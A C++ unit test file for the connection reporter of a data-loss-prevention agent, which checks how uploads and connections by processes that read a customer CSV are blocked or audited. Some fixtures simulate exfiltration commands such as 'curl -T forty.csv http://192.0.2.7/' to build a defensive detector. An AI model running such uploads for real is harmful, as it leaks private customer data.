#include "agent/connection_reporter.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <thread>

#include "tests/unit/agent/pipeline_workbench.h"

namespace vigie::agent {
namespace {

using ::testing::IsEmpty;
using ::testing::SizeIs;

constexpr platform::IpAddress kFarAway = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 192, 0, 2, 7};
constexpr platform::ProcessId kScript{7, 70};

class ConnectionReporterTest : public ::testing::Test {
 protected:
  ConnectionReporterTest() {
    bench.AddFile("/home/forty.csv", "customers 0 39");
    bench.AddProcess(7, "/usr/bin/python3", "python3 send.py");
    bench.Open(7, "/home/forty.csv");
    opened = bench.Told().size();
  }

  platform::ConnectionAttempt Attempt(std::uint64_t connection, bool denied = false) {
    return {.connection = connection,
            .process = kScript,
            .uid = 1000,
            .address = kFarAway,
            .port = 443,
            .denied = denied,
            .at = bench.clock.Now()};
  }
  std::vector<v1::Event> ToldOfConnections() {
    auto told = bench.Told();
    told.erase(told.begin(), told.begin() + static_cast<std::ptrdiff_t>(opened));
    return told;
  }

  PipelineWorkbench bench;
  std::size_t opened = 0;
  sensor::NetworkSensor sensor{bench.clock, [](const auto&) {}};
  ConnectionReporter connections{
      {sensor, bench.processes, bench.carriers, bench.guard, bench.policy, bench.reporter, bench.clock}};
};

TEST_F(ConnectionReporterTest, ARefusedConnectionIsToldAtOnceAsBlocked) {
  sensor.OnAttempt(Attempt(0, true));
  connections.Step();
  ASSERT_THAT(ToldOfConnections(), SizeIs(1));
  const v1::Event event = ToldOfConnections().front();
  EXPECT_EQ(event.activity().kind(), v1::ACTIVITY_KIND_CONNECT);
  EXPECT_EQ(event.activity().channel(), v1::CHANNEL_NETWORK_TRANSFER);
  EXPECT_EQ(event.activity().destination().kind(), "host");
  EXPECT_EQ(event.activity().destination().name(), "192.0.2.7");
  EXPECT_EQ(event.activity().destination().port(), 443U);
  EXPECT_EQ(event.activity().user(), "alice");
  EXPECT_EQ(event.activity().process().exe(), "/usr/bin/python3");
  EXPECT_EQ(event.activity().file().path(), "/home/forty.csv");
  EXPECT_EQ(event.inspection().customers().distinct(), 40U);
  EXPECT_EQ(event.verdict(), v1::VERDICT_BLOCK);
  EXPECT_FALSE(event.late());
  EXPECT_THAT(event.lineage(), SizeIs(1));
}

TEST_F(ConnectionReporterTest, AShortOneIsOneUploadWithItsBytesAndName) {
  sensor.OnAttempt(Attempt(1));
  sensor.OnTraffic({.connection = 1, .process = kScript, .server_name = "files.example.com"});
  sensor.OnTraffic({.connection = 1, .process = kScript, .server_name = "", .bytes_sent = 5000, .closed = true});
  connections.Step();
  ASSERT_THAT(ToldOfConnections(), SizeIs(1));
  const v1::Event event = ToldOfConnections().front();
  EXPECT_EQ(event.activity().kind(), v1::ACTIVITY_KIND_UPLOAD);
  EXPECT_EQ(event.activity().destination().name(), "files.example.com");
  EXPECT_EQ(event.activity().destination().address(), "192.0.2.7");
  EXPECT_EQ(event.activity().file().bytes(), 5000U);
  EXPECT_EQ(event.verdict(), v1::VERDICT_AUDIT);
}

TEST_F(ConnectionReporterTest, ALongOneIsToldAfterHalfASecondAndAtItsEnd) {
  sensor.OnAttempt(Attempt(1));
  connections.Step();
  EXPECT_THAT(ToldOfConnections(), IsEmpty());
  bench.clock.Advance(std::chrono::milliseconds(600));
  connections.Step();
  ASSERT_THAT(ToldOfConnections(), SizeIs(1));
  EXPECT_EQ(ToldOfConnections().front().activity().kind(), v1::ACTIVITY_KIND_CONNECT);
  sensor.OnTraffic({.connection = 1, .process = kScript, .server_name = {}, .bytes_sent = 9, .closed = true});
  connections.Step();
  ASSERT_THAT(ToldOfConnections(), SizeIs(2));
  EXPECT_EQ(ToldOfConnections().back().activity().file().bytes(), 9U);
  EXPECT_THAT(ToldOfConnections().back().lineage(), SizeIs(2)) << "the read, and the beginning";
}

TEST_F(ConnectionReporterTest, WhatATransferProgramSendsWasToldWhenItOpenedTheFile) {
  bench.AddProcess(8, "/usr/bin/curl", "curl -T forty.csv http://192.0.2.7/");
  bench.Open(8, "/home/forty.csv");
  opened = bench.Told().size();
  auto attempt = Attempt(1);
  attempt.process = {8, 80};
  sensor.OnAttempt(attempt);
  connections.Finish();
  EXPECT_THAT(ToldOfConnections(), IsEmpty());
  EXPECT_EQ(connections.folded(), 1U);
  attempt.denied = true;
  sensor.OnAttempt(attempt);
  connections.Finish();
  EXPECT_THAT(ToldOfConnections(), SizeIs(1)) << "a refusal is news";
}

// On a busy machine the transfer program is let through, and connected, before its file has been inspected.
TEST_F(ConnectionReporterTest, ATransferThatIsToldLateIsToldOnce) {
  bench.AddFile("/home/big.csv", "slow");
  bench.AddProcess(8, "/usr/bin/curl", "curl -T big.csv http://192.0.2.7/");
  bench.Open(8, "/home/big.csv");
  auto attempt = Attempt(1);
  attempt.process = {8, 80};
  sensor.OnAttempt(attempt);
  connections.Step();
  ASSERT_TRUE(bench.pipeline.FinishOneLateAccess({}));
  opened = bench.Told().size();
  sensor.OnTraffic({.connection = 1, .process = {8, 80}, .server_name = {}, .bytes_sent = 9, .closed = true});
  connections.Finish();
  EXPECT_EQ(opened, 2U) << "the fixture's own read, and the late one";
  EXPECT_THAT(ToldOfConnections(), IsEmpty());
}

// Between the moments in which a process becomes a carrier and its access has been told there may be a connection.
TEST_F(ConnectionReporterTest, FromItsFirstMomentACarrierIsKnownToHaveBeenToldAsTransfer) {
  bench.AddProcess(8, "/usr/bin/curl", "curl -T forty.csv http://192.0.2.7/");
  bench.guard.NoteTransferTold({8, 80});
  EXPECT_FALSE(bench.network.ModeOf({8, 80})) << "it carries nothing";
  const auto curl = *bench.process_info.Describe(8);
  bench.carriers.Read(curl, {}, {"/home/forty.csv", CustomersFound(0, 39), bench.clock.Now()}, false);
  EXPECT_EQ(bench.network.ModeOf({8, 80}), platform::CarrierMode::kReport);
  EXPECT_TRUE(bench.guard.TransferTold({8, 80}));
  bench.guard.Release({8, 80});
  EXPECT_FALSE(bench.network.ModeOf({8, 80}));
}

TEST_F(ConnectionReporterTest, AThreadOfItsOwnTellsAtOnceAndWhatIsLeftAtItsEnd) {
  sensor.OnAttempt(Attempt(0, true));
  {
    std::jthread thread([this](const std::stop_token& stop) { connections.Run(stop); });
    const auto deadline = base::Deadline::After(std::chrono::seconds(20));
    while (ToldOfConnections().empty() && !deadline.expired()) std::this_thread::yield();
    EXPECT_THAT(ToldOfConnections(), SizeIs(1));
    sensor.OnAttempt(Attempt(1));  // open, and not due yet: the clock of the test stands still
  }
  EXPECT_THAT(ToldOfConnections(), SizeIs(2));
}

TEST_F(ConnectionReporterTest, AProcessThatCarriesNothingIsNobodysBusiness) {
  auto attempt = Attempt(1);
  attempt.process = {9, 90};
  sensor.OnAttempt(attempt);
  connections.Finish();
  EXPECT_THAT(ToldOfConnections(), IsEmpty());
  EXPECT_EQ(connections.folded(), 1U);
}

TEST(AddressText, IsWrittenAsTheStandardsSay) {
  EXPECT_EQ(AddressText(kFarAway), "192.0.2.7");
  EXPECT_EQ(AddressText({0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1}), "2001:db8::1");
  EXPECT_EQ(AddressText({}), "::");
  EXPECT_EQ(AddressText({0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1}), "::1");
  EXPECT_EQ(AddressText({0x20, 0x01, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0}), "2001:0:1::1:0");
  EXPECT_EQ(AddressText({0, 1, 0, 0, 0, 2, 0, 3, 0, 4, 0, 5, 0, 6, 0, 7}), "1:0:2:3:4:5:6:7");
}

}  // namespace
}  // namespace vigie::agent
